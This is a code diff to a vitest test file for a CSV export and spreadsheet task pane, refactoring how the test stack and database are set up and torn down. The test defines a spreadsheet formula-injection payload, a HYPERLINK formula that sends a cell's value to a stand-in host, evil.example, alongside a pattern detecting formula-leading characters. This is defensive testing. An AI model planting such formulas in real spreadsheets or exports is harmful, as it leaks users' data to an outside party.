@@ -4,7 +4,7 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { bearer } from "../../support/auth";
 import { launchChromium, openTaskPane } from "../../support/browser";
 import { data } from "../../support/graphql";
-import { ownParticipantsDatabase, startTestStack, type TestStack } from "../../support/servers";
+import { useTestStack } from "../../support/servers";
 
 /**
  * Text an operator typed (a source's publisher) reaches planners' spreadsheets: through the CSV export and
@@ -14,11 +14,8 @@ const HOSTILE = `=HYPERLINK("http://evil.example/?x="&A2,"click")`;
 const AS_OF = "2025-08-15";
 const FORMULA_START = /^[=+\-@\t\r]/;
 
-let stack: TestStack;
-let database: { url: string; drop(): Promise<void> };
+const stack = useTestStack({ ownParticipantsDatabase: "formula" });
 beforeAll(async () => {
-  database = await ownParticipantsDatabase("formula");
-  stack = await startTestStack({ participantsDatabaseUrl: database.url });
   const reports = [
     { regencyCode: "16.06", publisher: HOSTILE },
     { regencyCode: "16.10", publisher: "+62 811 (ponsel)" },
@@ -39,10 +36,6 @@ beforeAll(async () => {
       await bearer("operator", [regencyCode]),
     );
   }
-});
-afterAll(async () => {
-  await stack.stop();
-  await database.drop();
 });
 
 describe("the CSV export", () => {
